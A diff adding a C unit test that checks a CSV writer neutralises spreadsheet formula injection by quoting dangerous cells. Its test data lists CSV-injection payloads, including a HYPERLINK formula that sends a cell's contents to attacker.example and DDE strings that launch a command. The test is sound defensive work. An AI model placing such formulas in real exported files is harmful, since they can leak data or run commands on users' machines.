@@ -108,6 +108,64 @@ test_writer (void)
   test_assert_strv (ROW (rows, 1), fields);
 }
 
+/* Cells a spreadsheet would run as formulas (OWASP's CSV injection) are
+ * written with a quote before them, and read back exactly. */
+static void
+test_formulas_neutralised (void)
+{
+  static const char * const fields[] = {
+    "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=",
+    "'=already quoted once",
+    "''@twice",
+    "'plain, with its quote",
+    "'",
+    "+49 30 1234567",
+    "+1 (555) 010-0100",
+    "--04-12",
+    "-",
+    "a=b",
+    NULL
+  };
+  /* What each cell is written as, with what is around it. */
+  static const char * const written[] = {
+    "\"'=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"Click\"\")\",",
+    ",'+cmd|' /C calc'!A0,",
+    ",'-2+3+cmd|' /C calc'!A0,",
+    ",'@SUM(1+1)*cmd|' /C calc'!A0,",
+    ",'\t=1+1,",
+    ",\"'\r=1+1\",",
+    ",'=,",
+    ",''=already quoted once,",
+    ",'''@twice,",
+    ",\"'plain, with its quote\",",
+    ",',",
+    ",+49 30 1234567,",
+    ",+1 (555) 010-0100,",
+    ",--04-12,",
+    ",-,",
+    ",a=b\r\n",
+  };
+  g_autoptr(GString) out = g_string_new (NULL);
+  g_autoptr(GPtrArray) rows = NULL;
+
+  rapport_csv_append_row (out, fields);
+  for (guint i = 0; i < G_N_ELEMENTS (written); i++)
+    {
+      g_test_message ("%s", written[i]);
+      g_assert_nonnull (strstr (out->str, written[i]));
+    }
+
+  rows = read_all (out->str, out->len, NULL);
+  g_assert_cmpuint (rows->len, ==, 1);
+  test_assert_strv (ROW (rows, 0), fields);
+}
+
 static void
 test_bounded (void)
 {
@@ -153,6 +211,7 @@ main (int   argc,
   g_test_add_func ("/rapport/csv/blank-lines-and-find", test_blank_lines_and_find);
   g_test_add_func ("/rapport/csv/encoding", test_encoding);
   g_test_add_func ("/rapport/csv/writer", test_writer);
+  g_test_add_func ("/rapport/csv/formulas-neutralised", test_formulas_neutralised);
   g_test_add_func ("/rapport/csv/bounded", test_bounded);
 
   return g_test_run ();
